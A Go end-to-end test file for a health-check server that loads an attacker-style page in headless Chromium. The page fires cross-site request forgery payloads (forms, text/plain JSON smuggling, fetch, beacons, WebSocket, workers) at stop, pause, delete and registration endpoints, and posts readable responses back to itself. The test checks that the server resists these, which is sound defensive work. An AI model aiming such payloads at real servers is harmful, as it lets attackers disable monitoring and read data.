package e2e

import (
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/portreeve/portreeve/e2e/debian"
)

// evilPage tries what a page of another site can make a browser send: by images,
// frames, styles, links ahead, forms of every type, scripts with every mode,
// beacons, redirects and pages that are opened. At its end it tells its server.
const evilPage = `<!doctype html><meta charset="utf-8"><meta name="referrer" content="%[4]s">
<link rel="prefetch" href="%[1]s/healthchecker/stop?appname=%[2]s&by=prefetch"><link rel="stylesheet" href="%[1]s/healthchecker/stop?appname=%[2]s&by=style">
<link rel="preload" as="image" href="%[1]s/healthchecker/pause?appname=%[2]s&by=preload"><link rel="icon" href="%[1]s/healthchecker/stop?appname=%[2]s&by=icon">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["%[1]s/healthchecker/stop?appname=%[2]s&by=speculation"]}],"prerender":[{"source":"list","urls":["%[1]s/healthchecker/stop?appname=%[2]s&by=prerender"]}]}</script>
<img src="%[1]s/healthchecker/stop?appname=%[2]s&by=image"><img referrerpolicy="no-referrer" src="%[1]s/healthchecker/resume?name=%[2]s&by=image2">
<iframe name="f0" src="%[1]s/healthchecker/stopmonitoring?appname=%[2]s&by=frame"></iframe><iframe name="f1"></iframe><iframe name="f2"></iframe><iframe name="f3"></iframe><iframe name="f4"></iframe><iframe name="f5"></iframe>
<iframe sandbox="allow-scripts allow-forms" srcdoc="<form id=f method=post action='%[1]s/healthchecker/stop'><input name=appname value='%[2]s'></form><script>f.submit()</script>"></iframe>
<object data="%[1]s/healthchecker/stop?appname=%[2]s&by=object"></object><embed src="%[1]s/healthchecker/stop?appname=%[2]s&by=embed"><video src="%[1]s/healthchecker/stop?appname=%[2]s&by=video"></video>
<form id="post" target="f1" method="post" action="%[1]s/healthchecker/stop"><input name="appname" value="%[2]s"></form>
<form id="sign" target="f2" method="post" action="%[1]s/healthchecker/monitor"><input name="appname" value="evil-form"><input name="url" value="http://:3000"></form>
<form id="plain" target="f3" method="post" enctype="text/plain" action="%[1]s/api/v1/checks"><input name='{"name":"evil-plain","target":"tcp://:1","title":"' value='"}'></form>
<form id="get" target="f4" method="get" action="%[1]s/healthchecker/stop"><input name="appname" value="%[2]s"></form>
<form id="around" target="f5" method="post" action="/redirect"><input name="appname" value="%[2]s"></form>
<a id="ping" href="#" ping="%[1]s/healthchecker/stop?appname=%[2]s">x</a>
<script src="%[1]s/healthchecker/stop?appname=%[2]s&by=script"></script>
<script>
for (const id of ["post", "sign", "plain", "get", "around"]) document.getElementById(id).submit();
ping.click();
const all = [], json = JSON.stringify({name: "evil-json", target: "tcp://:1"}), form = new URLSearchParams({appname: "%[2]s"});
const send = (path, options) => all.push(fetch("%[1]s" + path, options).then(r => r.text()).then(t => fetch("/read", {method: "POST", body: path + " " + t}), () => {}));
for (const mode of ["no-cors", "cors"]) for (const credentials of ["omit", "include"]) {
  const o = {mode, credentials};
  send("/healthchecker/stop?appname=%[2]s", o);
  send("/healthchecker/stop?appname=%[2]s", {...o, headers: {"Accept-Language": "*", "User-Agent": "node"}});
  send("/healthchecker/info?appname=%[2]s", o);
  send("/healthchecker/stop", {...o, method: "POST", body: form});
  send("/healthchecker/monitor", {...o, method: "POST", body: new URLSearchParams({appname: "evil-fetch", url: "http://:1"})});
  send("/api/v1/checks", {...o, method: "POST", body: json});
  send("/api/v1/checks", {...o, method: "POST", body: json, headers: {"Content-Type": "text/plain;application/json"}});
  send("/api/v1/checks", {...o, method: "POST", body: new Blob([json], {type: ""})});
  send("/api/v1/checks", {...o, method: "POST", body: new Blob([json], {type: "application/json"})});
  send("/api/v1/checks/%[3]s/registration", o);
  send("/api/v1/checks/%[3]s/pause", {...o, method: "POST"});
  send("/api/v1/push/%[3]s/finish", {...o, method: "POST"});
  if (mode === "cors") { send("/api/v1/checks/%[3]s", {...o, method: "DELETE"}); send("/api/v1/checks/%[3]s", {...o, method: "PUT", body: json, headers: {"Content-Type": "application/json"}}); }
}
for (const type of ["application/json", "text/plain"]) try { navigator.sendBeacon("%[1]s/api/v1/checks", new Blob([json], {type})); } catch {}
navigator.sendBeacon("%[1]s/healthchecker/stop", form);
new EventSource("%[1]s/healthchecker/stop?appname=%[2]s"); try { new WebSocket("ws" + "%[1]s".slice(4) + "/healthchecker/stop?appname=%[2]s"); } catch {}
new Worker(URL.createObjectURL(new Blob(["fetch('%[1]s/healthchecker/stop?appname=%[2]s', {mode: 'no-cors'})"])));
Promise.allSettled(all).then(() => setTimeout(() => fetch("/done", {method: "POST"}), 1500));
</script>`

// TestOtherSitesPagesInARealBrowser has a person on the machine of an app, and one
// on the server's own, look at a page of an attacker's. The browser is a real
// Chromium: of a server at an address of the network, in plain HTTP, it tells
// nothing of which site a request is from.
func TestOtherSitesPagesInARealBrowser(t *testing.T) {
	t.Parallel()
	w := besiege(t, openDoors)
	for from, name := range map[string]string{victim: "shop", fort: "local"} {
		if code, text := w.ask(from, "POST", "/healthchecker/monitor", "appname=old-"+name+"&url=http://:3000", "Content-Type", asForm); code != http.StatusCreated {
			t.Fatal(code, text)
		}
		w.signUp(from, `{"name":"`+name+`","target":"push://`+name+`","period":"1h"}`)
	}
	naive, heard := w.naive()
	w.lure(victim, fmt.Sprintf(evilPage, naive, "old-shop", "shop", "no-referrer"), naive+"/healthchecker/stop?appname=old-shop")
	if gets, posts := heard("GET"), heard("POST"); gets < 15 || posts < 15 {
		t.Errorf("a server that asks nothing hears %d GET and %d POST, so what follows shows little", gets, posts)
	} else {
		t.Logf("%d GET and %d POST reach a server in plain HTTP", gets, posts)
	}
	for _, tt := range []struct{ name, from, base, referrer string }{
		{"shop", victim, w.url, "unsafe-url"},
		{"local", fort, w.url, "no-referrer"}, {"local", fort, fmt.Sprintf("http://127.0.0.1:%d", fortPort), "no-referrer"},
	} {
		t.Run(tt.name+" at "+tt.base+" "+tt.referrer, func(t *testing.T) {
			w.lure(tt.from, fmt.Sprintf(evilPage, tt.base, "old-"+tt.name, tt.name, tt.referrer), tt.base+"/healthchecker/stop?appname=old-"+tt.name)
			for _, name := range []string{"old-" + tt.name, tt.name} {
				code, text := w.ask(tt.from, "GET", "/api/v1/checks/"+name+"/registration", "")
				if code != http.StatusOK || !strings.Contains(text, `"restarts":0`) || !strings.Contains(text, `"paused":false`) || strings.Contains(text, `"beat":{"at"`) {
					t.Errorf("%s is not as it was: %d %s", name, code, text)
				}
			}
			if _, text := w.ask(tt.from, "GET", "/healthchecker/status", "", "Accept", asJSON); strings.Contains(text, "evil") {
				t.Errorf("a page signed something up: %s", text)
			}
		})
	}
}

// naive starts a server on the fort's machine that answers everything, and tells
// how often it was asked.
func (w *siege) naive() (base string, heard func(method string) int) {
	w.t.Helper()
	var (
		mu    sync.Mutex
		count = map[string]int{}
		ln    net.Listener
	)
	w.here.do(func() (err error) {
		ln, err = net.Listen("tcp", fort+":0")
		return err
	})
	srv := &http.Server{Handler: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		count[r.Method]++
	})}
	go srv.Serve(ln)
	w.t.Cleanup(func() { srv.Close() })
	return "http://" + ln.Addr().String(), func(method string) int {
		mu.Lock()
		defer mu.Unlock()
		return count[method]
	}
}

// lure has a browser look at an attacker's page until it has tried everything.
func (w *siege) lure(from, html, around string) {
	w.t.Helper()
	done, read := make(chan struct{}, 9), make(chan string, 999)
	var ln net.Listener
	w.there.do(func() (err error) {
		ln, err = net.Listen("tcp", attacker+":0")
		return err
	})
	srv := &http.Server{Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			rw.Header().Set("Content-Type", "text/html")
			fmt.Fprint(rw, html)
		case "/redirect":
			http.Redirect(rw, r, around, http.StatusTemporaryRedirect)
		case "/read":
			text := make([]byte, 300)
			n, _ := r.Body.Read(text)
			read <- string(text[:n])
		case "/done":
			done <- struct{}{}
		}
	})}
	go srv.Serve(ln)
	defer srv.Close()
	place := w.there
	if from == fort {
		place = w.here
	}
	var chromium *program
	page := (&url.URL{Scheme: "http", Host: ln.Addr().String(), Path: "/"}).String()
	place.do(func() error {
		chromium = start(w.t, func(cmd *exec.Cmd) { cmd.Env = append(os.Environ(), "HOME="+cmd.Dir) }, debian.Path(w.t, "chromium"),
			"--headless=new", "--no-sandbox", "--disable-gpu", "--user-data-dir="+w.t.TempDir(), "--remote-debugging-port=0", page)
		return nil
	})
	defer chromium.stop()
	select {
	case <-done:
	case <-time.After(60 * time.Second):
		w.t.Errorf("the page does not come to its end: %.2000s", chromium.stderr)
	}
	for len(read) > 0 {
		if text := <-read; strings.ContainsAny(text[strings.IndexByte(text+" ", ' '):], "{<") {
			w.t.Errorf("the page could read: %s", text)
		}
	}
}
